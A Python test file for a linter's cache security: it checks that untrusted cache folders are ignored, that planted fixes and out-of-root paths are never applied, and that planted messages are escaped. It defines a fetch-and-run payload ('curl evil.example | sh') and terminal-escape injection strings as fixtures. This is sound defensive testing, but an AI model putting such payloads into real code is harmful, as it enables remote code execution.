"""Issue 14, item 4: the cache folder is data about the run's files, used only when the user running loadlint
alone can write it; its entries are bound to their root, run and content, never supply a fix, and never lead
the run to a file outside the root."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from click.testing import CliRunner

import linter.analysis
from linter.cache import SUFFIX, _decode_result, _encode_result, cache_dir
from linter.cli import main
from tests.project_builder import edit_cache_entries, found, lint, write_files

PACKAGE = '{"name": "api", "dependencies": {"jsonwebtoken": "^9.0.0"}}'
NO_FIX = "const jwt = require('jsonwebtoken');\nconst s = config.jwt.secret || 'dev-secret';\njwt.sign({}, s, { expiresIn: '1h' });\n"
FIXABLE = "const jwt = require('jsonwebtoken');\nconst t = process.env.JWT_SECRET || 'dev';\njwt.sign({}, t, { expiresIn: '1h' });\n"
EVIL = "require('child_process').execSync('curl evil.example | sh');\n"
AS_ROOT = pytest.mark.skipif(os.geteuid() != 0, reason="giving a folder to another user takes root")


@pytest.fixture
def project(tmp_path, monkeypatch):
    monkeypatch.setattr("linter.cache.SETTLED_NS", 0)  # what the test wrote counts as settled: listings are kept
    return write_files(tmp_path / "app", {".git/HEAD": "", "package.json": PACKAGE, "src/a.js": NO_FIX, "src/b.js": FIXABLE})


@pytest.fixture
def analysed(monkeypatch):
    paths: list[str] = []
    real = linter.analysis.analyze_file

    def counting(abs_path, rel_path, *rest, **options):
        paths.append(rel_path)
        return real(abs_path, rel_path, *rest, **options)

    monkeypatch.setattr("linter.engine.analyze_file", counting)
    return paths


def run(root, **options):
    return lint([root], rules_dir=None, select=["auth"], **options)


def check(*args):
    return CliRunner().invoke(main, ["check", *map(str, args), "--select", "auth"], catch_exceptions=False)


def _results_file() -> Path:
    (path,) = cache_dir().glob(f"results-*{SUFFIX}")
    return path


def _edit_json(path: Path, change) -> None:
    if path.suffix == SUFFIX:
        edit_cache_entries(path, change)
        return
    data = json.loads(path.read_bytes())
    change(data)
    path.write_text(json.dumps(data))
    path.chmod(0o600)


def _hide_findings(data) -> None:
    for entry in data["entries"].values():
        entry[3]["findings"] = []


def _cache_notices(result) -> list[str]:
    return [n.message for n in result.report.notices if "cache folder" in n.message]


EXPECTED = {("src/a.js", 2, "auth/secret-fallback"), ("src/b.js", 2, "auth/secret-fallback")}


def test_planted_entries_are_used_from_a_private_folder(project):
    """The premise of the tests below: an entry of a trusted folder is believed (it is only ever our own)."""
    assert found(run(project)) == EXPECTED
    _edit_json(_results_file(), _hide_findings)
    assert found(run(project)) == set()


@AS_ROOT
def test_a_cache_folder_of_another_user_is_not_used(project, analysed):
    run(project)
    _edit_json(_results_file(), _hide_findings)
    os.chown(cache_dir(), 1000, 1000)
    analysed.clear()
    result = run(project)
    assert found(result) == EXPECTED
    assert sorted(analysed) == ["src/a.js", "src/b.js"]
    (notice,) = _cache_notices(result)
    assert "belongs to another user (uid 1000)" in notice
    assert not result.incomplete


@pytest.mark.parametrize("mode", [0o770, 0o707, 0o777])
def test_a_cache_folder_others_can_write_is_not_used(project, mode):
    run(project)
    _edit_json(_results_file(), _hide_findings)
    cache_dir().chmod(mode)
    result = run(project)
    assert found(result) == EXPECTED
    (notice,) = _cache_notices(result)
    assert "others can write to it" in notice
    cache_dir().chmod(0o700)
    assert found(run(project)) == set()  # the folder made private again is used again


def test_a_cache_folder_others_can_replace_is_not_used(project):
    run(project)
    _edit_json(_results_file(), _hide_findings)
    cache_dir().parent.chmod(0o777)
    result = run(project)
    assert found(result) == EXPECTED
    assert "others can replace it" in _cache_notices(result)[0]
    cache_dir().parent.chmod(0o1777)  # sticky, as /tmp: no one can replace another's folder
    assert found(run(project)) == set()


def test_a_cache_folder_that_is_a_link_is_not_used(project, tmp_path):
    run(project)
    _edit_json(_results_file(), _hide_findings)
    elsewhere = tmp_path / "elsewhere"
    cache_dir().rename(elsewhere)
    cache_dir().symlink_to(elsewhere)
    result = run(project)
    assert found(result) == EXPECTED
    assert "symbolic link" in _cache_notices(result)[0]


@AS_ROOT
def test_a_cache_file_of_another_user_or_writable_by_others_is_not_read(project):
    run(project)
    _edit_json(_results_file(), _hide_findings)
    os.chown(_results_file(), 1000, 1000)
    assert found(run(project)) == EXPECTED
    _edit_json(_results_file(), _hide_findings)
    _results_file().chmod(0o666)
    result = run(project)
    assert found(result) == EXPECTED
    assert _cache_notices(result) == []  # the folder is fine: the file is only a miss


def test_a_missing_cache_folder_is_made_private(project):
    run(project)
    assert cache_dir().stat().st_mode & 0o777 == 0o700


def test_a_results_file_is_bound_to_its_root_and_run(project, tmp_path, analysed):
    run(project)
    twin = write_files(tmp_path / "twin", {".git/HEAD": "", "package.json": PACKAGE, "src/a.js": NO_FIX, "src/b.js": FIXABLE})
    run(twin)
    twin_file = next(p for p in cache_dir().glob(f"results-*{SUFFIX}") if p != _results_file_of(project))
    # The twin's results, under the project's name: same contents, but written for another root.
    twin_file.replace(_results_file_of(project))
    analysed.clear()
    run(project)
    assert sorted(analysed) == ["src/a.js", "src/b.js"]


def _results_file_of(root: Path) -> Path:
    import hashlib

    name = hashlib.blake2b(str(root).encode(), digest_size=8).hexdigest()
    (path,) = cache_dir().glob(f"results-{name}-*{SUFFIX}")
    return path


def test_a_decoded_result_names_only_its_own_file(project):
    result = linter.analysis.analyze_file(project / "src/a.js", "src/a.js", _plan(), (), True, None)
    encoded = json.loads(json.dumps(_encode_result(result)))
    assert _decode_result(encoded, "src/a.js").findings == result.findings
    elsewhere = "../outside.js"
    related = {"path": elsewhere, "span": encoded["findings"][0]["span"], "message": None}
    for part, records in [
        ("findings", [{**encoded["findings"][0], "path": elsewhere}]),
        ("findings", [{**encoded["findings"][0], "related": [related]}]),
        ("notices", [{"message": "x", "path": elsewhere, "level": "note"}]),
    ]:
        with pytest.raises(ValueError):
            _decode_result({**encoded, part: records}, "src/a.js")


def _plan():
    from linter.analysis import RulePlan
    from linter.registry import builtin_rules

    rules = [cls(None) for cls in builtin_rules() if cls.id == "auth/secret-fallback"]
    return RulePlan(rules, frozenset(r.id for r in rules), trusted=frozenset(r.id for r in rules))


def test_a_planted_finding_cannot_drive_the_terminal_or_the_log(project):
    """Whatever a cache entry says is shown as any finding is: escaped (see test_output_escaping)."""
    check(project)

    def plant(data):
        data["entries"]["src/a.js"][3]["findings"][0]["message"] = "x\n::add-mask::y\x1b]0;t\x07"

    _edit_json(_results_file(), plant)
    result = check(project)
    assert "x\\n::add-mask::y\\x1b]0;t\\x07" in result.stdout
    assert "\x1b" not in result.stdout and not any(line.startswith("::") for line in result.stdout.splitlines())


def _plant_fix(data) -> None:
    finding = data["entries"]["src/a.js"][3]["findings"][0]
    span = {"start_line": 1, "start_column": 1, "end_line": 1, "end_column": 1}
    edit = {"start_byte": 0, "end_byte": 0, "span": span, "replacement": EVIL}
    finding["fixes"] = [{"description": "harmless", "edits": [edit], "safe": True}]


@pytest.mark.parametrize("mode", ["--fix", "--diff-fix"])
def test_a_fix_is_never_taken_from_the_cache(project, mode):
    assert check(project).exit_code == 1
    _edit_json(_results_file(), _plant_fix)
    assert any(f.fixes for f in run(project).report.findings if f.path == "src/a.js")  # planted and believed
    result = check(project, mode)
    assert EVIL not in result.stdout
    assert (project / "src/a.js").read_text(encoding="utf-8") == NO_FIX
    if mode == "--fix":
        assert "fixed 0 findings in 0 files" in result.stderr


def test_fixes_are_derived_afresh_and_still_applied(project):
    check(project)
    result = check(project, "--fix", "--unsafe-fixes")
    assert "fixed 1 finding in 1 file" in result.stderr
    assert "requireEnv('JWT_SECRET')" in (project / "src/b.js").read_text(encoding="utf-8")


# --- the listing ------------------------------------------------------------------------------------------------


def _listing() -> Path:
    (path,) = cache_dir().glob("listing-*.json")
    return path


def _as_listed(data, root: Path, rel: str) -> str:
    """`rel` written as the listing writes its paths (absolute in older layouts, relative to the root now)."""
    return f"{root}/{rel}" if data["found"]["sources"][0].startswith("/") else rel


def _restamp(data, root: Path) -> None:
    """Stamp every listed folder afresh, as a writer of the cache would to make the listing look current."""
    for name in list(data["folders"]):
        folder = name if name.startswith("/") else os.path.join(root, name)
        info = os.stat(folder)
        data["folders"][name] = [info.st_mtime_ns, info.st_ctime_ns, info.st_size, info.st_ino]


@pytest.mark.parametrize("listed", ["../outside.js", "src/../../outside.js", "ABSOLUTE"])
def test_a_listed_file_outside_the_root_is_never_read_or_fixed(project, tmp_path, listed):
    outside = tmp_path / "outside.js"
    outside.write_text(FIXABLE)
    assert check(project).exit_code == 1

    def plant(data):
        path = str(outside) if listed == "ABSOLUTE" else _as_listed(data, project, listed)
        data["found"]["sources"].append(path)

    _edit_json(_listing(), plant)
    result = check(project, "--fix", "--unsafe-fixes", "--format", "json")
    assert result.exit_code == 1, result.stderr
    assert outside.read_text(encoding="utf-8") == FIXABLE
    assert {f["path"] for f in json.loads(result.stdout)["findings"]} <= {"src/a.js"}


def test_a_listed_folder_that_links_out_of_the_root_is_never_followed(project, tmp_path):
    elsewhere = write_files(tmp_path / "elsewhere", {"x.js": FIXABLE})
    assert check(project).exit_code == 1
    (project / "src" / "linked").symlink_to(elsewhere)

    def plant(data):
        folder = _as_listed(data, project, "src/linked")
        data["folders"][folder] = None
        data["found"]["sources"].append(f"{folder}/x.js")
        _restamp(data, project)

    _edit_json(_listing(), plant)
    result = check(project, "--fix", "--unsafe-fixes", "--format", "json")
    assert (elsewhere / "x.js").read_text(encoding="utf-8") == FIXABLE
    assert "src/linked/x.js" not in {f["path"] for f in json.loads(result.stdout)["findings"]}


def test_a_listing_is_bound_to_its_root(project, monkeypatch):
    check(project)
    _edit_json(_listing(), lambda data: data.update(root="/elsewhere"))
    walked = []
    real = linter.discovery.discover
    monkeypatch.setattr("linter.listing_cache.discover", lambda *a, **k: walked.append(1) or real(*a, **k))
    check(project)
    assert walked
